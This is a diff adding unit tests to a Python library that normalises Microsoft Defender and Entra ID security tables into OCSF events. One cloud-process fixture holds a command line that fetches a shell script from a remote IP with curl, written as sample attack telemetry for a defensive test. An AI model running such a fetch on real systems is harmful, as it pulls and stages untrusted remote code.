@@ -140,6 +140,52 @@ def test_every_plan_gives_a_valid_event_from_its_actions(table: str) -> None:
                 check_event(event)
 
 
+_AS_WRITTEN = OCSF.derive("ocsf-as-written", {})  # a plain RuleSet: the rules compiled as they are
+
+
+def _same_both_ways(rec: m365parse.Record) -> None:
+    """The per-plan functions of the built-in set give what its rules say, key order included."""
+    assert json.dumps(m365parse.normalize(rec, "ocsf")) == json.dumps(m365parse.normalize(rec, _AS_WRITTEN))
+
+
+@pytest.mark.parametrize("table", [t for t in TABLES if t in MAPPINGS])
+def test_plans_compiled_apart_give_what_the_rules_say(table: str) -> None:
+    mapping = MAPPINGS[table]
+    for rec in _sample(table):
+        _same_both_ways(rec)
+        for plan in mapping.plans:
+            for action in [*sorted(plan.actions or plan.activity or []), None, "NoSuchAction"]:
+                props = {**rec.to_dict()["properties"], "ActionType": action}
+                data = json.dumps([props]).encode() if table == "SiemAlert" else body(record(table, **props))
+                (again,) = _decode(data)
+                _same_both_ways(again)
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(_record())
+def test_any_record_gives_what_the_rules_say(case: tuple[str, dict[str, Any]]) -> None:
+    table, props = case
+    data = json.dumps([props]).encode() if table == "SiemAlert" else body(record(table, **props))
+    for rec in m365parse.decode(data).records:
+        _same_both_ways(rec)
+
+
+def test_decide_keeps_what_an_if_applies_after_its_branch() -> None:
+    from m365parse.mappings.ocsf._dispatch import decide
+
+    spec = {"if": "c", "then": "A", "else": "B", "transform": ["lower"], "map": {"a": 1}, "default": 0}
+    assert decide(spec, {"c": True}) == {"first": ["A"], "transform": ["lower"], "map": {"a": 1}, "default": 0}
+    assert decide({"if": "c", "then": "A", "map": {"a": 1}, "default": 0}, {"c": False}) == {
+        "const": None,
+        "map": {"a": 1},
+        "default": 0,
+    }
+    assert decide({"if": "c", "then": "A"}, {"c": False}) == {"const": None}
+    assert decide({"first": [{"if": "d", "then": "A"}, {"if": "c", "then": "B"}]}, {"c": True}) == {
+        "first": [{"if": "d", "then": "A"}, "B"]
+    }
+
+
 def test_generated_classes_agree_with_the_schema() -> None:
     for uid, (name, caption, category_uid, _, activities, _) in GENERATED_CLASSES.items():
         cls = CLASSES[str(uid)]
@@ -475,6 +521,20 @@ def test_message_ids_are_not_mixed_up() -> None:
         ("email", "a.b+c@example.com", "a.b+c@example.com"),
         ("email", "-", None),
         ("port", "443", 443),
+        ("http_status", "204", 204),
+        ("http_status", 404, 404),
+        ("http_status", "Active", None),
+        ("http_status", 42, None),
+        ("http_status", True, None),
+        ("pid", "48190", 48190),
+        ("pid", 7, 7),
+        ("pid", "-1", None),
+        ("pid", "sh", None),
+        ("pid", False, None),
+        ("ocsf_error_status", 0, 1),
+        ("ocsf_error_status", 50126, 2),
+        ("ocsf_error_status", "0", None),
+        ("ocsf_error_status", False, None),
         ("port", 70000, None),
         ("port", True, None),
         ("port", "²", None),  # a digit to str.isdigit(), no port
@@ -681,3 +741,215 @@ def test_api_kinds_have_no_ocsf_variants() -> None:
     assert normalizer_for("ocsf", "GraphAlert", True) is not None
     assert normalizer_for("ocsf+x", "GraphAlert", True) is None
     assert normalizer_for("ocsf", "NoSuchKind", True) is None
+
+
+# --- tables of the cloud, Entra ID and behavior families ---------------------------------------
+
+
+def test_entra_sign_ins_are_logons_with_their_outcome_in_status() -> None:
+    user = {"AccountUpn": "avery.lin@contoso.com", "AccountObjectId": "71f17c54-00cf-4043-9ccb-86919d4613cf"}
+    for table in ("EntraIdSignInEvents", "AADSignInEventsBeta"):
+        failed = _event(table, ErrorCode=50126, IPAddress="203.0.113.14", **user)
+        assert (failed["class_uid"], failed["activity_id"], failed["type_uid"]) == (3002, 1, 300201)
+        assert (failed["status_id"], failed["status"], failed["status_code"]) == (2, "Failure", "50126")
+        assert failed["user"] == {
+            "name": "avery.lin@contoso.com",
+            "uid": "71f17c54-00cf-4043-9ccb-86919d4613cf",
+            "email_addr": "avery.lin@contoso.com",
+        }
+        assert failed["src_endpoint"]["ip"] == "203.0.113.14"
+        ok = _event(table, ErrorCode=0, AuthenticationRequirement="multiFactorAuthentication", **user)
+        assert (ok["status_id"], ok["status"], ok["is_mfa"]) == (1, "Success", True)
+        assert _event(table, **user)["status_id"] == 0  # no error code: Unknown
+        assert _event(table, ErrorCode=0)["class_uid"] == 0  # no user: a Base Event
+
+
+def test_service_principal_sign_ins_have_a_service_user() -> None:
+    for table in ("EntraIdSpnSignInEvents", "AADSpnSignInEventsBeta"):
+        event = _event(table, ServicePrincipalName="ci-deploy", ServicePrincipalId="f4ad", ErrorCode=7000215)
+        assert event["class_uid"] == 3002
+        assert event["user"] == {"name": "ci-deploy", "uid": "f4ad", "type_id": 4, "type": "Service"}
+        assert event["status_id"] == 2
+
+
+def test_graph_api_calls_take_their_activity_from_the_method() -> None:
+    for method, activity in (("GET", 2), ("POST", 1), ("PATCH", 3), ("PUT", 3), ("DELETE", 4), ("OPTIONS", 99)):
+        event = _event("GraphAPIAuditEvents", RequestMethod=method, AccountObjectId="34c9", IpAddress="203.0.113.14")
+        assert (event["class_uid"], event["activity_id"], event["type_uid"]) == (6003, activity, 600300 + activity)
+        assert event["api"]["operation"] == method
+        assert event["actor"]["user"] == {"uid": "34c9", "type_id": 1, "type": "User"}
+    app = _event("GraphAPIAuditEvents", RequestMethod="GET", ServicePrincipalId="f4ad", IpAddress="203.0.113.14")
+    assert app["actor"]["user"] == {"uid": "f4ad", "type_id": 4, "type": "Service"}
+    coded = _event(
+        "GraphAPIAuditEvents", RequestMethod="GET", AccountObjectId="34c9", IpAddress="::1", ResponseStatusCode="404"
+    )
+    assert coded["http_response"] == {"code": 404}
+    odd = _event(
+        "GraphAPIAuditEvents", RequestMethod="GET", AccountObjectId="34c9", IpAddress="::1", ResponseStatusCode="x"
+    )
+    assert "http_response" not in odd and odd["unmapped"]["ResponseStatusCode"] == "x"
+
+
+def test_cloud_processes_have_their_parent_as_actor() -> None:
+    event = _event(
+        "CloudProcessEvents",
+        ActionType="ProcessCreated",
+        ProcessId=48211,
+        ProcessName="curl",
+        ProcessCommandLine="curl -s http://203.0.113.50/x.sh",
+        ParentProcessName="sh",
+        ParentProcessId="48190",
+        AccountName="www-data",
+        HostName="aks-node-1",
+        ContainerId="c0ffee",
+        ImageDigest="sha256:3b1f",
+        ContainerImageName="contoso.azurecr.io/web/frontend:1.8.2",
+    )
+    assert (event["class_uid"], event["activity_id"]) == (1007, 1)
+    assert event["actor"]["process"] == {"pid": 48190, "name": "sh"}
+    assert event["process"]["parent_process"] == {"pid": 48190, "name": "sh"}
+    assert event["process"]["user"] == {"name": "www-data"}
+    assert event["process"]["container"] == {
+        "uid": "c0ffee",
+        "image": {"uid": "sha256:3b1f", "name": "contoso.azurecr.io/web/frontend:1.8.2"},
+    }
+    assert event["device"]["hostname"] == "aks-node-1"
+
+
+def test_cloud_dns_and_audit_events() -> None:
+    dns = _event("CloudDnsEvents", DnsQuery="evil.example.net", DnsQueryTypeName="A", DnsResponseCodeName="nxdomain")
+    assert (dns["class_uid"], dns["query"], dns["rcode_id"], dns["rcode"]) == (
+        4003,
+        {"hostname": "evil.example.net", "type": "A"},
+        3,
+        "NXDomain",
+    )
+    audit = _event(
+        "CloudAuditEvents",
+        Account="avery.lin@contoso.com",
+        OperationName="listKeys",
+        IPAddress="203.0.113.14,198.51.100.7",
+    )
+    assert (audit["class_uid"], audit["api"]["operation"], audit["src_endpoint"]["ip"]) == (
+        6003,
+        "listKeys",
+        "203.0.113.14",
+    )
+    assert audit["unmapped"]["IPAddress"] == "203.0.113.14,198.51.100.7"  # the whole list is kept
+
+
+def test_behaviors_are_detection_findings_not_alerts() -> None:
+    event = _event(
+        "BehaviorInfo",
+        BehaviorId="ca1b",
+        Title="Unusual volume of file deletion",
+        Categories='["Impact"]',
+        AttackTechniques='["Data Destruction (T1485)"]',
+        AccountUpn="jordan.okafor@contoso.com",
+        StartTime="2026-07-18T09:40:12.5Z",
+    )
+    assert (event["class_uid"], event["is_alert"], event["finding_info"]["uid"]) == (2004, False, "ca1b")
+    assert event["finding_info"]["first_seen_time_dt"] == "2026-07-18T09:40:12.5Z"
+    assert {"technique": {"uid": "T1485", "name": "Data Destruction"}} in event["attacks"]
+    assert event["evidences"] == [
+        {"user": {"name": "jordan.okafor@contoso.com", "email_addr": "jordan.okafor@contoso.com"}}
+    ]
+
+
+def test_behavior_entities_are_the_evidence_of_their_behavior() -> None:
+    event = _event(
+        "BehaviorEntities",
+        BehaviorId="cc3d",
+        Categories='["Discovery"]',
+        EntityType="Machine",
+        DeviceId="7f3e",
+        DeviceName="ws-fin-0142",
+        LocalIP="10.20.4.17",
+        RemoteIP="203.0.113.50",
+        SHA1="da39a3ee5e6b4b0d3255bfef95601890afd80709",
+        FileName="tasklist.exe",
+    )
+    assert (event["class_uid"], event["is_alert"], event["finding_info"]["uid"]) == (2004, False, "cc3d")
+    assert event["attacks"] == [{"tactic": {"uid": "TA0007", "name": "Discovery"}}]
+    (evidence,) = event["evidences"]
+    assert evidence["device"] == {"hostname": "ws-fin-0142", "uid": "7f3e", "type_id": 0}
+    assert (evidence["src_endpoint"], evidence["dst_endpoint"]) == ({"ip": "10.20.4.17"}, {"ip": "203.0.113.50"})
+    assert evidence["file"]["hashes"] == [
+        {"algorithm_id": 2, "algorithm": "SHA-1", "value": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}
+    ]
+
+
+def test_identity_accounts_are_user_inventory() -> None:
+    event = _event(
+        "IdentityAccountInfo",
+        AccountId="3d66",
+        AccountUpn="avery.lin@contoso.com",
+        DisplayName="Avery Lin",
+        Sid="S-1-5-21-1-2-3-1104",
+        Department="Finance",
+        City="Frankfurt am Main",
+    )
+    assert (event["class_uid"], event["activity_id"]) == (5003, 2)
+    assert event["user"]["uid"] == "S-1-5-21-1-2-3-1104"
+    assert event["user"]["uid_alt"] == "3d66"
+    assert event["user"]["ldap_person"] == {"department": "Finance", "location": {"city": "Frankfurt am Main"}}
+
+
+def test_vulnerability_management_tables() -> None:
+    device = {"DeviceId": "3709", "DeviceName": "ws-fin-0142", "OSPlatform": "Windows11", "OSVersion": "10.0.22631"}
+    software = {"SoftwareVendor": "tukaani", "SoftwareName": "xz_utils", "SoftwareVersion": "5.6.0"}
+    inventory = _event("DeviceTvmSoftwareInventory", **device, **software, ProductCodeCpe="cpe:2.3:a:tukaani:xz:5.6.0")
+    assert (inventory["class_uid"], inventory["activity_id"]) == (5020, 2)
+    assert inventory["package"] == {
+        "name": "xz_utils",
+        "version": "5.6.0",
+        "vendor_name": "tukaani",
+        "cpe_name": "cpe:2.3:a:tukaani:xz:5.6.0",
+    }
+    assert inventory["device"]["os"] == {"name": "Windows11", "type_id": 100, "version": "10.0.22631"}
+    assert "package" not in _event("DeviceTvmSoftwareInventory", **device, SoftwareName="xz_utils")  # no version
+
+    finding = _event(
+        "DeviceTvmSoftwareVulnerabilities", **device, **software, CveId="CVE-2024-3094", VulnerabilitySeverityLevel="Critical"
+    )
+    assert (finding["class_uid"], finding["severity_id"], finding["severity"]) == (2002, 5, "Critical")
+    assert finding["finding_info"] == {"uid": "3709/CVE-2024-3094/tukaani/xz_utils/5.6.0", "title": "CVE-2024-3094"}
+    (vulnerability,) = finding["vulnerabilities"]
+    assert vulnerability["cve"] == {"uid": "CVE-2024-3094"}
+    assert vulnerability["affected_packages"] == [{"name": "xz_utils", "version": "5.6.0", "vendor_name": "tukaani"}]
+    assert _event("DeviceTvmSoftwareVulnerabilities", **device)["class_uid"] == 0  # no CVE: a Base Event
+
+    for table in ("DeviceTvmSecureConfigurationAssessment", "DeviceBaselineComplianceAssessment"):
+        for compliant, status_id, status in ((True, 1, "Pass"), (False, 3, "Fail"), (None, 0, "Unknown")):
+            event = _event(table, **device, ConfigurationId="scid-2010", IsCompliant=compliant)
+            assert event["class_uid"] == 2003
+            assert event["finding_info"]["uid"] == "3709/scid-2010"
+            assert (event["compliance"]["status_id"], event["compliance"]["status"]) == (status_id, status)
+
+
+def test_software_evidence_browser_extensions_malicious_files_and_campaigns() -> None:
+    evidence = _event(
+        "DeviceTvmSoftwareEvidenceBeta", DeviceId="5ff9", SoftwareName="openssl", SoftwareVersion="3.0.13"
+    )
+    assert (evidence["class_uid"], evidence["package"]) == (5020, {"name": "openssl", "version": "3.0.13"})
+    assert "device" not in _event("DeviceTvmSoftwareEvidenceBeta", SoftwareName="openssl")  # no device: none
+    extension = _event(
+        "DeviceTvmBrowserExtensions", DeviceId="01b2", ExtensionId="abc", ExtensionName="uBlock", ExtensionVersion="1.5"
+    )
+    assert extension["package"] == {
+        "name": "uBlock",
+        "version": "1.5",
+        "uid": "abc",
+        "type_id": 99,
+        "type": "Browser Extension",
+    }
+    malicious = _event(
+        "FileMaliciousContentInfo", DocumentId="c81e", ThreatNames="Trojan:Win32/Emotet", FileName="invoice.pdf"
+    )
+    assert (malicious["class_uid"], malicious["is_alert"], malicious["finding_info"]["uid"]) == (2004, False, "c81e")
+    assert malicious["evidences"][0]["file"]["name"] == "invoice.pdf"
+    campaign = _event(
+        "CampaignInfo", CampaignId="9344", CampaignName="Qakbot", NetworkMessageId="f55e", RecipientEmailAddress="a@b.com"
+    )
+    assert campaign["finding_info"] == {"uid": "9344", "title": "Qakbot"}
+    assert campaign["evidences"] == [{"email": {"uid": "f55e", "to": ["a@b.com"]}}]
